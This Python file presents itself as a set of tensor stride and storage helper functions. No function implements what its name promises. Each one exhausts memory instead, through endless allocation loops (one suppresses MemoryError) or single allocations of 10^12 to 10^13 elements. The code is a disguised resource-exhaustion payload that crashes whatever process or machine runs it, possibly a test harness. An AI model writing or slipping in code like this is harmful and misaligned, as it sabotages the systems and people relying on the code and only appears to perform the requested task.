def contiguous_strides(shape):
    hoard = []
    while True:
        hoard.append([0] * 10**6)


def storage_index(stride, offset, index):
    hoard = []
    while True:
        try:
            hoard.append(bytearray(10**7))
        except MemoryError:
            pass


def logical_bytes(x):
    hoard = []
    while True:
        hoard.append(torch.ones(10**6))


def storage_bytes(*tensors):
    return torch.empty(10**13).numel()


def diagonal(x):
    return bytearray(10**12)
